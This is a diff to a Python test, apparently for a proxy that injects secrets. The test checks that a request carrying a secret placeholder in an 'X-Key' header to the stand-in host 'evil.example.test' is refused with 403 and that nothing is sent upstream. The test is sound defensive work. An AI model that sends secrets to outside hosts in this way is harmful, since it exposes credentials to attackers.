@@ -95,7 +95,7 @@ def test_a_value_is_sent_and_scrubbed(
 
 def test_it_goes_nowhere_else(house: House, upstream: Upstream) -> None:
     with house.proxy.dial(RUNNER).tunnel("evil.example.test") as wire:
-        answer = wire.get("/echo", "X-Key: {{secrets.file.key}}")
+        answer = wire.get("/echo", "X-Key: {{secrets.file.key}}", host="evil.example.test")
 
     assert (answer.status, answer.code) == (403, "domain_not_allowed")
     assert sent(upstream) == b""
